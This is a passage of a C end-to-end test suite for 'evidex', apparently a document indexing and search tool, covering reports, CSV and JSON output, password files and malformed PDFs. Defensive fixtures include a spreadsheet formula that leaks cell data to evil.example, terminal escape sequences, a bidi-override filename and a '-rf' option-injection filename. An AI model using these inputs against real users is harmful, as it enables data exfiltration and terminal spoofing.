    for (int i = 0; i < 40; i++) {
        g_autofree char *name = g_strdup_printf ("f%02d.bin", i);
        write_bytes (dir, name, "x\001\002binary", 10);
    }
    write_bytes (dir, "notes.txt", "Generator test passed.\n", -1);
    g_autofree char *report = g_build_filename (tmp_dir, "report.json", NULL);
    g_autofree char *cmd = g_strdup_printf ("exec '%s' --db '%s' ingest --report '%s' '%s' >&- 2>&-",
                                            EVX_BINARY, db, report, dir);
    const char *argv[] = { "/bin/sh", "-c", cmd, NULL };
    int status = -1;
    ck_assert (g_spawn_sync (NULL, (char **) argv, NULL, G_SPAWN_DEFAULT, NULL, NULL, NULL, NULL,
                             &status, NULL));
    ck_assert_msg (WIFEXITED (status) && WEXITSTATUS (status) == 0, "status %d", status);
    g_autofree char *json = NULL;
    ck_assert (g_file_get_contents (report, &json, NULL, NULL));
    ck_assert_msg (strstr (json, "\"added\" : 1") && strstr (json, "\"skipped\" : 40")
                   && strstr (json, "\"failed\" : 0") && !strstr (json, "crashed"), "%s", json);
}
END_TEST

/* The report never replaces what its path names by a file of its own (a nightly-job
 * helper's root job wrote `--report /dev/stdout` and replaced that link, and a chmod 600
 * on the report was undone every night): a new report is its owner's only, an existing
 * one keeps its permissions, a symbolic link stays a link and its target is written,
 * a character device is written through */
START_TEST (test_report_targets)
{
    g_autofree char *dir = g_build_filename (tmp_dir, "inbox", NULL);
    ck_assert_int_eq (g_mkdir (dir, 0700), 0);
    write_bytes (dir, "notes.txt", "Generator fuel contract renewed.\n", -1);
    g_autofree char *fresh = g_build_filename (tmp_dir, "new.json", NULL);
    evx_test_run_result r = evx_test_run (db, "ingest", "--quiet", "--report", fresh, dir, NULL);
    ck_assert_msg (r.status == 0, "%s", r.err);
    evx_test_run_result_clear (&r);
    struct stat st;
    ck_assert_int_eq (stat (fresh, &st), 0);
    ck_assert_int_eq (st.st_mode & 0777, 0600);
    ck_assert_int_eq (chmod (fresh, 0640), 0);
    g_autofree char *link = g_build_filename (tmp_dir, "last.json", NULL);
    ck_assert_int_eq (symlink (fresh, link), 0);
    r = evx_test_run (db, "refresh", "--quiet", "--report", link, NULL);
    ck_assert_msg (r.status == 0, "%s", r.err);
    evx_test_run_result_clear (&r);
    ck_assert_int_eq (lstat (link, &st), 0);
    ck_assert (S_ISLNK (st.st_mode));
    ck_assert_int_eq (stat (fresh, &st), 0);
    ck_assert_int_eq (st.st_mode & 0777, 0640);
    g_autofree char *text = NULL;
    ck_assert (g_file_get_contents (fresh, &text, NULL, NULL));
    ck_assert_msg (strstr (text, "\"command\" : \"refresh\""), "%s", text);
    /* /dev/null stays the device */
    r = evx_test_run (db, "refresh", "--quiet", "--report", "/dev/null", NULL);
    ck_assert_msg (r.status == 0, "%s", r.err);
    evx_test_run_result_clear (&r);
    ck_assert_int_eq (stat ("/dev/null", &st), 0);
    ck_assert (S_ISCHR (st.st_mode));
}
END_TEST

/* A valid HTML5 page draws no warning: libxml2's HTML 4 parser called header, main,
 * section, article and footer invalid, and every modern page had a note (a newcomer
 * helper) */
START_TEST (test_html5_page_quiet)
{
    g_autofree char *dir = g_build_filename (tmp_dir, "inbox", NULL);
    ck_assert_int_eq (g_mkdir (dir, 0700), 0);
    write_bytes (dir, "page.html",
                 "<!DOCTYPE html><html><body><header>Site</header><main><section><article>"
                 "<p>The plan covers both depots.</p></article></section></main><footer>(c)</footer>"
                 "</body></html>\n", -1);
    evx_test_run_result r = evx_test_run (db, "ingest", dir, NULL);
    ck_assert_msg (r.status == 0 && !strstr (r.err, "libxml2") && !strstr (r.err, "note"), "%s", r.err);
    evx_test_run_result_clear (&r);
}
END_TEST

/* --quiet keeps a run that went well silent, since cron mails any output (the summary
 * line was printed every night); a failure still prints its line and the summary */
START_TEST (test_quiet_silent_unless_failure)
{
    g_autofree char *dir = g_build_filename (tmp_dir, "inbox", NULL);
    ck_assert_int_eq (g_mkdir (dir, 0700), 0);
    write_bytes (dir, "notes.txt", "Generator fuel contract renewed.\n", -1);
    evx_test_run_result r = evx_test_run (db, "ingest", "--quiet", dir, NULL);
    ck_assert_msg (r.status == 0 && r.out[0] == '\0' && r.err[0] == '\0', "%s%s", r.out, r.err);
    evx_test_run_result_clear (&r);
    r = evx_test_run (db, "refresh", "--quiet", NULL);
    ck_assert_msg (r.status == 0 && r.out[0] == '\0' && r.err[0] == '\0', "%s%s", r.out, r.err);
    evx_test_run_result_clear (&r);
    write_bytes (dir, "broken.pdf", "%PDF-1.4\nnot a PDF body\n", -1);
    r = evx_test_run (db, "refresh", "--quiet", NULL);
    ck_assert_int_eq (r.status, 3);
    ck_assert_msg (strstr (r.err, "broken.pdf") && strstr (r.err, "FAILED")
                       && strstr (r.err, "evidex refresh: 2 files seen, 0 added, 0 updated, 0 moved, "
                                         "0 removed, 1 unchanged, 0 skipped, 1 failed;"),
                   "%s", r.err);
    evx_test_run_result_clear (&r);
}
END_TEST

/* A write error names the system's reason (a full disk said only "Error writing block
 * 18", found by a nightly-job helper); a file size limit stands in for the full disk */
START_TEST (test_write_error_reason)
{
    g_autofree char *cmd = g_strdup_printf ("trap '' XFSZ; ulimit -f 200; exec '%s' --db '%s' ingest "
                                            "--quiet '%s/pdf'",
                                            EVX_BINARY, db, CORPUS);
    const char *argv[] = { "/bin/sh", "-c", cmd, NULL };
    g_autofree char *err = NULL;
    int status = -1;
    ck_assert (g_spawn_sync (NULL, (char **) argv, NULL, G_SPAWN_STDOUT_TO_DEV_NULL, NULL, NULL,
                             NULL, &err, &status, NULL));
    ck_assert_msg (WIFEXITED (status) && WEXITSTATUS (status) == 1, "status %d: %s", status, err);
    ck_assert_msg (strstr (err, "(File too large); the index keeps its last commit"), "%s", err);
    /* and the index is whole at its last commit */
    evx_test_run_result r = evx_test_run (db, "check", NULL);
    ck_assert_msg (r.status == 0, "%s%s", r.out, r.err);
    evx_test_run_result_clear (&r);
}
END_TEST

/* "--" ends the options of every command ("ingest -- -rf.pdf" looked for a file named
 * "--"; found by a nightly-job helper) */
START_TEST (test_double_dash)
{
    g_autofree char *dir = g_build_filename (tmp_dir, "inbox", NULL);
    ck_assert_int_eq (g_mkdir (dir, 0700), 0);
    write_bytes (dir, "-rf.txt", "Generator fuel contract.\n", -1);
    write_bytes (dir, "a.txt", "Generator service report.\n", -1);
    g_autofree char *a = g_build_filename (dir, "a.txt", NULL);
    g_autofree char *dashed = g_build_filename (dir, "-rf.txt", NULL);
    g_autofree char *relative = g_strdup ("-rf.txt");
    const char *argv[] = { EVX_BINARY, "--db", db, "ingest", a, "--", relative, NULL };
    g_autofree char *err = NULL;
    int status = -1;
    ck_assert (g_spawn_sync (dir, (char **) argv, NULL, G_SPAWN_STDOUT_TO_DEV_NULL, NULL, NULL, NULL,
                             &err, &status, NULL));
    ck_assert_msg (WIFEXITED (status) && WEXITSTATUS (status) == 0, "%s", err);
    ck_assert_msg (strstr (err, "2 files seen, 2 added"), "%s", err);
    evx_test_run_result r = evx_test_run (db, "show", "--", dashed, NULL);
    ck_assert_msg (r.status == 0 && strstr (r.out, "  passages   1"), "%s%s", r.out, r.err);
    evx_test_run_result_clear (&r);
}
END_TEST

/* CSV cells that a spreadsheet would run as formulas get an apostrophe first (a helper
 * attack: "=HYPERLINK(...)" in a document went into the CSV as it was) */
START_TEST (test_csv_formula_cells)
{
    g_autofree char *dir = g_build_filename (tmp_dir, "inbox", NULL);
    ck_assert_int_eq (g_mkdir (dir, 0700), 0);
    write_bytes (dir, "links.txt",
                 "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\") recovery plan\n", -1);
    evx_test_run_result r = evx_test_run (db, "ingest", "--quiet", dir, NULL);
    ck_assert_msg (r.status == 0, "%s", r.err);
    evx_test_run_result_clear (&r);
    r = evx_test_run (db, "search", "--format", "csv", "recovery", NULL);
    ck_assert_int_eq (r.status, 0);
    ck_assert_msg (g_str_has_suffix (r.out, ",\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,"
                                            "\"\"Click\"\") recovery plan\"\r\n"),
                   "%s", r.out);
    evx_test_run_result_clear (&r);
}
END_TEST

START_TEST (test_formats_and_report)
{
    g_autofree char *dir = g_build_filename (tmp_dir, "inbox", NULL);
    ck_assert_int_eq (g_mkdir (dir, 0700), 0);
    write_bytes (dir, "intranet-page",
                 "<html><head><meta charset=\"windows-1252\"><title>DC2 plan</title></head><body>"
                 "<nav>Home</nav><blink>!</blink><h1>Invocation</h1><p>The duty manager invokes the plan within "
                 "\x93thirty minutes\x94.</p></body></html>",
                 -1);
    /* a word longer than Xapian's term limit, NUL and control bytes */
    g_autofree char *longword = g_strnfill (300, 'q');
    g_autofree char *text = g_strdup_printf ("Generator %s fuel\x01 contract\n", longword);
    g_autofree char *with_nul = g_strconcat (text, "x", NULL);
    with_nul[strlen (text)] = '\0';
    write_bytes (dir, "notes.txt", with_nul, (gssize) strlen (text) + 1);
    write_bytes (dir, "empty.txt", "", 0);
    static const char binary[] = "\x00\x01\x02\x03\xfe\xff\x80\x81\x90\xa0\xb0\xc0\xd0\xe0\xf0\x10";
    write_bytes (dir, "blob.bin", binary, sizeof binary - 1);
    g_autofree char *enc = NULL;
    gsize enc_len = 0;
    ck_assert (g_file_get_contents (EVX_SOURCE_DIR "/tests/data/encrypted-user.pdf", &enc, &enc_len,
                                    NULL));
    write_bytes (dir, "locked.pdf", enc, (gssize) enc_len);

    g_autofree char *report_path = g_build_filename (tmp_dir, "report.json", NULL);
    evx_test_run_result r = evx_test_run (db, "ingest", "--report", report_path, dir, NULL);
    ck_assert_msg (r.status == 3, "exit %d\n%s", r.status, r.err);
    ck_assert_msg (strstr (r.err, "5 files seen, 2 added, 0 updated, 0 moved, 0 removed, 0 unchanged, 2 skipped, 1 failed"), "%s",
                   r.err);
    evx_test_run_result_clear (&r);

    g_autoptr (JsonParser) rp = json_parser_new ();
    ck_assert (json_parser_load_from_file (rp, report_path, NULL));
    JsonObject *report = json_node_get_object (json_parser_get_root (rp));
    JsonObject *summary = json_object_get_object_member (report, "summary");
    ck_assert_int_eq (json_object_get_int_member (summary, "seen"), 5);
    ck_assert_int_eq (json_object_get_int_member (summary, "passages"), 2);
    static const char *const expected[][4] = {
        /* name, outcome, type, reason */
        { "/blob.bin", "skipped", "application/octet-stream", "unsupported type: application/octet-stream" },
        { "/empty.txt", "skipped", "application/x-zerosize", "unsupported type: application/x-zerosize" },
        { "/intranet-page", "indexed", "text/html", NULL },
        { "/locked.pdf", "failed", "application/pdf", "encrypted: password required" },
        { "/notes.txt", "indexed", "text/plain", NULL },
    };
    JsonArray *files = json_object_get_array_member (report, "files");
    ck_assert_uint_eq (json_array_get_length (files), G_N_ELEMENTS (expected));
    for (guint i = 0; i < G_N_ELEMENTS (expected); i++) {
        JsonObject *f = json_array_get_object_element (files, i);
        ck_assert (g_str_has_suffix (json_object_get_string_member (f, "path"), expected[i][0]));
        ck_assert_str_eq (json_object_get_string_member (f, "outcome"), expected[i][1]);
        ck_assert_str_eq (json_object_get_string_member (f, "type"), expected[i][2]);
        if (expected[i][3])
            ck_assert_str_eq (json_object_get_string_member (f, "reason"), expected[i][3]);
        else
            ck_assert (json_object_get_null_member (f, "reason"));
        ck_assert (json_object_get_null_member (f, "pages"));
    }
    JsonObject *html = json_array_get_object_element (files, 2);
    ck_assert_int_eq (json_object_get_int_member (html, "passages"), 1);
    /* libxml2's one warning: blink, no element of HTML 5 either (nav is one: no warning) */
    JsonObject *diagnostics = json_object_get_object_member (html, "diagnostics");
    ck_assert_int_eq (json_object_get_int_member (diagnostics, "count"), 1);
    ck_assert_str_eq (json_array_get_string_element (json_object_get_array_member (diagnostics,
                                                                                   "examples"), 0),
                      "html: line 1: Tag blink invalid");
    JsonObject *notes = json_array_get_object_element (files, 4);
    ck_assert_int_eq (json_object_get_int_member (notes, "invalid_bytes"), 0);

    /* passages of formats without pages: "page": null; the heading is there */
    r = evx_test_run (db, "search", "--format", "json", "\"thirty minutes\"", NULL);
    ck_assert_int_eq (r.status, 0);
    g_autoptr (JsonParser) parser = NULL;
    JsonObject *h = hit (parse_json (r.out, &parser), 0);
    ck_assert (json_object_get_null_member (h, "page"));
    ck_assert_str_eq (json_object_get_string_member (h, "text"),
                      "Invocation The duty manager invokes the plan within \xe2\x80\x9cthirty "
                      "minutes\xe2\x80\x9d.");
    evx_test_run_result_clear (&r);
    /* --password-file opens it; a password file others can read is refused */
    g_autofree char *pw = g_build_filename (tmp_dir, "passwords", NULL);
    ck_assert (g_file_set_contents (pw, "# lines: GLOB<TAB>PASSWORD\n*/inbox/locked.pdf\tevidex-user\n",
                                    -1, NULL));
    ck_assert_int_eq (g_chmod (pw, 0644), 0);
    r = evx_test_run (db, "ingest", "--password-file", pw, dir, NULL);
    ck_assert_int_eq (r.status, 2);
    ck_assert_msg (strstr (r.err, "can be read or written by others than its owner; run: chmod 600"),
                   "%s", r.err);
    evx_test_run_result_clear (&r);
    ck_assert_int_eq (g_chmod (pw, 0600), 0);
    g_autofree char *pw_report = g_build_filename (tmp_dir, "pw-report.json", NULL);
    r = evx_test_run (db, "ingest", "--password-file", pw, "--report", pw_report, dir, NULL);
    ck_assert_msg (r.status == 0, "exit %d\n%s", r.status, r.err);
    ck_assert_msg (strstr (r.err, "5 files seen, 1 added, 0 updated, 0 moved, 0 removed, 4 unchanged, 0 skipped, 0 failed"), "%s",
                   r.err);
    /* the password is nowhere: not in the output, the report or the index's files */
    ck_assert_msg (!strstr (r.err, "evidex-user") && !strstr (r.out, "evidex-user"), "%s", r.err);
    evx_test_run_result_clear (&r);
    g_autofree char *report_text = NULL;
    ck_assert (g_file_get_contents (pw_report, &report_text, NULL, NULL));
    ck_assert (!strstr (report_text, "evidex-user"));
    g_autoptr (GDir) index_dir = g_dir_open (db, 0, NULL);
    for (const char *name; index_dir && (name = g_dir_read_name (index_dir));) {
        g_autofree char *file = g_build_filename (db, name, NULL);
        g_autofree char *bytes = NULL;
        gsize len = 0;
        ck_assert (g_file_get_contents (file, &bytes, &len, NULL));
        ck_assert_msg (!g_strstr_len (bytes, (gssize) len, "evidex-user"), "password in %s", name);
    }
    r = evx_test_run (db, "search", "--format", "json", CERT2019_QUERY, NULL);
    g_clear_object (&parser);
    h = hit (parse_json (r.out, &parser), 0);
    ck_assert (g_str_has_suffix (json_object_get_string_member (h, "path"), "/inbox/locked.pdf"));
    ck_assert_int_eq (json_object_get_int_member (h, "page"), 1);
    evx_test_run_result_clear (&r);

    /* the 300-letter word is left out of the terms; the words around it are found */
    g_clear_object (&parser);
    r = evx_test_run (db, "search", "--format", "json", "fuel", "contract", NULL);
    ck_assert_int_eq (r.status, 0);
    h = hit (parse_json (r.out, &parser), 0);
    ck_assert (g_str_has_suffix (json_object_get_string_member (h, "path"), "/notes.txt"));
    evx_test_run_result_clear (&r);
}
END_TEST

/* Inputs a hostile-input session found mishandled; each was a bug. */
START_TEST (test_hostile_inputs)
{
    g_autofree char *dir = g_build_filename (tmp_dir, "hostile", NULL);
    ck_assert_int_eq (g_mkdir (dir, 0700), 0);
    /* names that differ only in bytes that are not UTF-8 shared one record */
    write_bytes (dir, "a\xff.txt", "alpha collide", -1);
    write_bytes (dir, "a\xfe.txt", "beta collide", -1);
    /* a title with terminal escape sequences */
    write_bytes (dir, "e.md", "# \x1b]0;pwned\x07Title\n\nbody escbody\n", -1);
    write_bytes (dir, "c1\xc2\x9b" "31mX.txt", "csibody one\n", -1);
    write_bytes (dir, "bidi\xe2\x80\xaetxt.exe.txt", "csibody two\n", -1);
    /* markup nested deeper than libxml2 reads */
    g_autoptr (GString) deep = g_string_new ("<html><body><p>alphaword</p>");
    for (int i = 0; i < 300; i++)
        g_string_append (deep, "<div>");
    g_string_append (deep, "x");
    for (int i = 0; i < 300; i++)
        g_string_append (deep, "</div>");
    g_string_append (deep, "<p>omegaword</p></body></html>");
    write_bytes (dir, "deep.html", deep->str, -1);
    /* a symbolic link loop */
    g_autofree char *l1 = g_build_filename (dir, "self1", NULL);
    g_autofree char *l2 = g_build_filename (dir, "self2", NULL);
    ck_assert_int_eq (symlink (l2, l1), 0);
    ck_assert_int_eq (symlink (l1, l2), 0);
    /* the index inside the folder, reached through a symbolic link to the folder */
    g_autofree char *via = g_build_filename (tmp_dir, "via", NULL);
    ck_assert_int_eq (symlink (dir, via), 0);
    g_autofree char *inner_db = g_build_filename (dir, "db", NULL);

    g_autofree char *report_path = g_build_filename (tmp_dir, "hostile.json", NULL);
    evx_test_run_result r = evx_test_run (inner_db, "ingest", "--report", report_path, via, NULL);
    ck_assert_msg (r.status == 0, "exit %d\n%s", r.status, r.err);
    ck_assert_msg (strstr (r.err, "8 files seen, 6 added, 0 updated, 0 moved, 0 removed, 0 unchanged, 2 skipped, 0 failed"),
                   "%s", r.err);
    ck_assert_msg (strstr (r.err, "self1: symbolic link loop"), "%s", r.err);
    ck_assert_msg (strstr (r.err, "note ") && strstr (r.err, "deep.html: markup nested deeper than "
                                                             "libxml2's limit (256 levels)"),
                   "%s", r.err);
    evx_test_run_result_clear (&r);
    g_free (db);
    db = g_strdup (inner_db);
    ck_assert_int_eq (count_hits ("collide", "/a\\xFF.txt"), 1);
    ck_assert_int_eq (count_hits ("collide", "/a\\xFE.txt"), 1);
    /* a second run finds both unchanged */
    r = evx_test_run (inner_db, "ingest", via, NULL);
    ck_assert_msg (strstr (r.err, "8 files seen, 0 added, 0 updated, 0 moved, 0 removed, 6 unchanged, 2 skipped"), "%s", r.err);
    evx_test_run_result_clear (&r);
    r = evx_test_run (inner_db, "search", "escbody", NULL);
    ck_assert_int_eq (r.status, 0);
    ck_assert_msg (!strchr (r.out, '\x1b') && !strchr (r.out, '\x07'), "%s", r.out);
    ck_assert_msg (strstr (r.out, "title: ]0;pwnedTitle"), "%s", r.out);
    evx_test_run_result_clear (&r);
    /* a C1 control (U+009B, CSI to a terminal) and a right-to-left override in a file
     * name were printed as they were (an auditor-style helper found them) */
    r = evx_test_run (inner_db, "search", "csibody", NULL);
    ck_assert_int_eq (r.status, 0);
    ck_assert_msg (!strstr (r.out, "\xc2\x9b") && !strstr (r.out, "\xe2\x80\xae"), "%s", r.out);
    ck_assert_msg (strstr (r.out, "/c1?31mX.txt") && strstr (r.out, "/bidi?txt.exe.txt"), "%s", r.out);
    evx_test_run_result_clear (&r);
    /* show takes a name as evidex prints it; a page of a format without pages is an error */
    g_autofree char *printed = g_strconcat (dir, "/a\\xFF.txt", NULL);
    r = evx_test_run (inner_db, "show", printed, NULL);
    ck_assert_msg (r.status == 0 && strstr (r.out, "alpha collide"), "%s%s", r.out, r.err);
    evx_test_run_result_clear (&r);
    g_autofree char *page1 = g_strconcat (dir, "/deep.html#1", NULL);
    r = evx_test_run (inner_db, "show", page1, NULL);
    ck_assert_int_eq (r.status, 2);
    ck_assert_msg (strstr (r.err, "page 1: the document has no pages (text/html)"), "%s", r.err);
    evx_test_run_result_clear (&r);
    /* ingesting the index's own folder records no root */
    r = evx_test_run (inner_db, "ingest", inner_db, NULL);
    evx_test_run_result_clear (&r);
    r = evx_test_run (inner_db, "roots", "--format", "json", NULL);
    ck_assert_msg (!strstr (r.out, "/db\""), "%s", r.out);
    evx_test_run_result_clear (&r);

    /* a password file that is a FIFO or a folder; a report nobody can write */
    g_autofree char *fifo = g_build_filename (tmp_dir, "pw-fifo", NULL);
    ck_assert_int_eq (mkfifo (fifo, 0600), 0);
    r = evx_test_run (inner_db, "ingest", "--password-file", fifo, dir, NULL);
    ck_assert_int_eq (r.status, 2);
    ck_assert_msg (strstr (r.err, "pw-fifo is not a regular file"), "%s", r.err);
    evx_test_run_result_clear (&r);
    r = evx_test_run (inner_db, "ingest", "--password-file", tmp_dir, dir, NULL);
    ck_assert_int_eq (r.status, 2);
    ck_assert_msg (strstr (r.err, "is not a regular file"), "%s", r.err);
    evx_test_run_result_clear (&r);
    r = evx_test_run (inner_db, "ingest", "--report", "/nonexistent/r.json", dir, NULL);
    ck_assert_int_eq (r.status, 2);
    ck_assert_msg (strstr (r.err, "cannot write the report /nonexistent/r.json: No such file or "
                                  "directory"),
                   "%s", r.err);
    evx_test_run_result_clear (&r);
    /* a report that is a folder, or inside the index folder, however its name gets
     * there: refused before the run, not after it (nightly-job helpers: a link to
     * db/docdata.glass had the report written over the index) */
    g_autofree char *in_db = g_build_filename (inner_db, "last.json", NULL);
    g_autofree char *via_link = g_build_filename (tmp_dir, "report-link.json", NULL);
    g_autofree char *glass = g_build_filename (inner_db, "docdata.glass", NULL);
    ck_assert_int_eq (symlink (glass, via_link), 0);
    g_autofree char *hop2 = g_build_filename (tmp_dir, "hop2.json", NULL);
    g_autofree char *hop1 = g_build_filename (tmp_dir, "hop1.json", NULL);
    g_autofree char *in_db_new = g_build_filename (inner_db, "new.json", NULL);
    ck_assert_int_eq (symlink (in_db_new, hop2), 0);
    ck_assert_int_eq (symlink (hop2, hop1), 0);   /* a chain of dangling links */
    g_autofree char *fresh_db = g_build_filename (tmp_dir, "fresh-db", NULL);
    const struct {
        const char *db, *report, *message;
    } refused[] = {
        { inner_db, tmp_dir, ": it is a folder" },
        { inner_db, in_db, "/last.json: it would go inside the index folder" },
        { inner_db, via_link, "report-link.json: it would go inside the index folder" },
        { inner_db, hop1, "hop1.json: it would go inside the index folder" },
        { fresh_db, fresh_db, "fresh-db: it is a folder (the index's)" },   /* not made yet */
    };
    for (guint i = 0; i < G_N_ELEMENTS (refused); i++) {
        r = evx_test_run (refused[i].db, "ingest", "--report", refused[i].report, dir, NULL);
        ck_assert_msg (r.status == 2 && strstr (r.err, "cannot write the report ")
                           && strstr (r.err, refused[i].message),
                       "%s: %s", refused[i].report, r.err);
        evx_test_run_result_clear (&r);
    }
    r = evx_test_run (inner_db, "check", NULL);
    ck_assert_msg (r.status == 0, "%s%s", r.out, r.err);
    evx_test_run_result_clear (&r);
    /* a memory limit too small to start a worker is a usage error */
    r = evx_test_run (inner_db, "ingest", "--memory-limit", "64", dir, NULL);
    ck_assert_int_eq (r.status, 2);
    ck_assert_msg (strstr (r.err, "--memory-limit must be at least 256 MiB, not 64"), "%s", r.err);
    evx_test_run_result_clear (&r);
    /* each option is named alone (--wait -1 was told about four other options) */
    r = evx_test_run (inner_db, "refresh", "--wait=-1", NULL);
    ck_assert_int_eq (r.status, 2);
    ck_assert_msg (g_str_has_suffix (r.err, "--wait must be at least 0 s, not -1\n"), "%s", r.err);
    evx_test_run_result_clear (&r);
}
END_TEST

/* ---- ../shared/corpus-external ---------------------------------------------- */

static JsonObject *
report_entry (JsonObject *report, const char *suffix)
{
    JsonArray *files = json_object_get_array_member (report, "files");
    for (guint i = 0; i < json_array_get_length (files); i++) {
        JsonObject *f = json_array_get_object_element (files, i);
        if (g_str_has_suffix (json_object_get_string_member (f, "path"), suffix))
            return f;
    }
    ck_abort_msg ("no report entry for %s", suffix);
    return NULL;
}

START_TEST (test_external_corpus)
{
    if (!g_file_test (EXTERNAL "/MANIFEST.tsv", G_FILE_TEST_EXISTS)) {
        fprintf (stderr, "SKIP test_external_corpus: %s is not there (it is beside the "
                         "project's checkout only on developers' machines and in CI)\n",
                 EXTERNAL);
        return;
    }
    g_autofree char *report_path = g_build_filename (tmp_dir, "external.json", NULL);
    evx_test_run_result r = evx_test_run (db, "ingest", "--timeout", "30", "--report", report_path, EXTERNAL,
                               NULL);
    /* completed, some files failed */
    ck_assert_msg (r.status == 3, "exit %d\n%s", r.status, r.err);
    ck_assert_msg (strstr (r.err, "47 files seen, 41 added, 0 updated, 0 moved, 0 removed, 0 unchanged, 0 skipped, 6 failed"),
                   "%s", r.err);
    evx_test_run_result_clear (&r);

    /* every file is accounted for in the report: indexed, or failed with a reason, each
     * within the time limit */
    g_autoptr (JsonParser) rp = json_parser_new ();
    ck_assert (json_parser_load_from_file (rp, report_path, NULL));
    JsonObject *report = json_node_get_object (json_parser_get_root (rp));
    JsonArray *files = json_object_get_array_member (report, "files");
    ck_assert_uint_eq (json_array_get_length (files), 47);
    for (guint i = 0; i < json_array_get_length (files); i++) {
        JsonObject *f = json_array_get_object_element (files, i);
        const char *outcome = json_object_get_string_member (f, "outcome");
        ck_assert_msg (strcmp (outcome, "indexed") == 0 || strcmp (outcome, "failed") == 0,
                       "%s: %s", json_object_get_string_member (f, "path"), outcome);
        if (strcmp (outcome, "failed") == 0)
            ck_assert (json_object_get_string_member (f, "reason") != NULL);
        ck_assert (json_object_get_double_member (f, "seconds") < 31.0);
    }
    static const char *const failed[][2] = {
        { "/py-pdf-sample-files/libreoffice-writer-password.pdf", "encrypted: password required" },
        { "/qpdf/empty.pdf", "damaged: the document reports no pages (poppler: Syntax error at "
                             "position -1: Invalid page count 0)" },
        { "/pdfjs/issue9418.pdf", "damaged: the document reports no pages (poppler: Syntax error at "
                                  "position -1: Top-level pages object is wrong type (null))" },
        { "/pdfjs/poppler-67295-0.pdf", "damaged: the document reports no pages (poppler: Syntax "
                                        "error at position -1: Invalid page count -2147483648)" },
        { "/pdfium/bug_325_a.pdf", "damaged: PDF document is damaged (poppler: Syntax error at "
                                   "position -1: Couldn't read xref table)" },
        { "/qpdf/issue-146.pdf", "damaged: PDF document is damaged (poppler: Syntax error at "
                                 "position -1: Couldn't read xref table)" },
    };
    for (size_t i = 0; i < G_N_ELEMENTS (failed); i++) {
        JsonObject *f = report_entry (report, failed[i][0]);
        ck_assert_str_eq (json_object_get_string_member (f, "outcome"), "failed");
        ck_assert_str_eq (json_object_get_string_member (f, "reason"), failed[i][1]);
        ck_assert_str_eq (json_object_get_string_member (f, "type"), "application/pdf");
    }
    /* poppler's complaints are counted per file, with a few distinct examples */
    JsonObject *diag = json_object_get_object_member (report_entry (report, "/qpdf/issue-146.pdf"),
                                                      "diagnostics");
    ck_assert_int_eq (json_object_get_int_member (diag, "count"), 999);
    ck_assert_uint_eq (json_array_get_length (json_object_get_array_member (diag, "examples")), 3);
    /* scans: indexed, listed as needing OCR */
    static const char *const scans[][2] = { { "/centro-services/iso-22301-certificate.pdf", "1" },
                                            { "/mcsistem/iso-27001-en.pdf", "1" },
                                            { "/pdfjs/evaljs.pdf", "2" } };
    for (size_t i = 0; i < G_N_ELEMENTS (scans); i++) {
        JsonObject *f = report_entry (report, scans[i][0]);
        ck_assert_str_eq (json_object_get_string_member (f, "outcome"), "indexed");
        ck_assert (json_object_get_boolean_member (f, "needs_ocr"));
        ck_assert_int_eq (json_object_get_int_member (f, "pages_without_text"), atoi (scans[i][1]));
        ck_assert_int_eq (json_object_get_int_member (f, "passages"), 0);
    }
    JsonObject *rotated = report_entry (report, "/py-pdf-sample-files/habibi-rotated.pdf");
    ck_assert_str_eq (json_object_get_string_member (rotated, "note"),
                      "1 of 4 pages have no text layer");
    /* the manifest and README are text and Markdown now */
    ck_assert_str_eq (json_object_get_string_member (report_entry (report, "/MANIFEST.tsv"), "type"),
                      "text/plain");
    ck_assert_str_eq (json_object_get_string_member (report_entry (report, "/README.md"), "type"),
                      "text/markdown");

    /* the password file opens the encrypted file; the owner-password-only file needs none */
    g_autofree char *pw = g_build_filename (tmp_dir, "passwords", NULL);
    ck_assert (g_file_set_contents (pw, "# test passwords\nlibreoffice-writer-*.pdf\topenpassword\n",
                                    -1, NULL));
    ck_assert_int_eq (g_chmod (pw, 0600), 0);
    r = evx_test_run (db, "ingest", "--password-file", pw,
                    EXTERNAL "/py-pdf-sample-files/libreoffice-writer-password.pdf", NULL);
    ck_assert_msg (r.status == 0, "exit %d\n%s", r.status, r.err);
    ck_assert_msg (strstr (r.err, "1 files seen, 1 added"), "%s", r.err);
    ck_assert_msg (!strstr (r.err, "openpassword"), "%s", r.err);
    evx_test_run_result_clear (&r);
    JsonObject *owner = report_entry (report, "/pypdf/r6-owner-password.pdf");
    ck_assert_str_eq (json_object_get_string_member (owner, "outcome"), "indexed");
    ck_assert_int_eq (json_object_get_int_member (owner, "passages"), 1);

    /* real documents are found on their page */
    r = evx_test_run (db, "search", "--format", "json", "\"recovery time objective\"", "4", "hours",
                    NULL);
    g_autoptr (JsonParser) parser = NULL;
    JsonObject *res = parse_json (r.out, &parser);
    JsonObject *h = hit (res, 0);
    ck_assert (g_str_has_suffix (json_object_get_string_member (h, "path"),
                                 "/luc-drp/Disaster Recovery Plan.pdf"));
    ck_assert_int_eq (json_object_get_int_member (h, "page"), 4);
    evx_test_run_result_clear (&r);

    /* ligatures are searchable as plain letters (NFKC) */
    g_clear_object (&parser);
    r = evx_test_run (db, "search", "--format", "json", "abcdeffffiflffifflststghijklmno", NULL);
    res = parse_json (r.out, &parser);
    ck_assert (g_str_has_suffix (json_object_get_string_member (hit (res, 0), "path"),
                                 "/pdfjs/copy_paste_ligatures.pdf"));
    evx_test_run_result_clear (&r);

    /* printed page labels */
    g_clear_object (&parser);
    r = evx_test_run (db, "search", "--format", "json", "\"second section\"", "some", "text", NULL);
    res = parse_json (r.out, &parser);
    h = hit (res, 0);
    ck_assert (g_str_has_suffix (json_object_get_string_member (h, "path"), "/pagelabels.pdf"));
    ck_assert_int_eq (json_object_get_int_member (h, "page"), 2);
    ck_assert_str_eq (json_object_get_string_member (h, "page_label"), "iv");
    evx_test_run_result_clear (&r);
}
END_TEST

static Suite *
e2e_suite (void)
{
    Suite *s = suite_create ("e2e");
    TCase *tc = tcase_create ("corpus");
    tcase_add_checked_fixture (tc, setup, teardown);
    tcase_set_timeout (tc, 240);
    tcase_add_test (tc, test_clause_822_on_its_page);
    tcase_add_test (tc, test_jobs_give_the_same_index);
    tcase_add_test (tc, test_check);
    tcase_add_test (tc, test_symlinks_out_of_the_roots);
    tcase_add_test (tc, test_json_shape);
    tcase_add_test (tc, test_clauses_coverage);
    tcase_add_test (tc, test_search_by_edition);
    tcase_add_test (tc, test_doc_types);
    tcase_add_test (tc, test_certs);
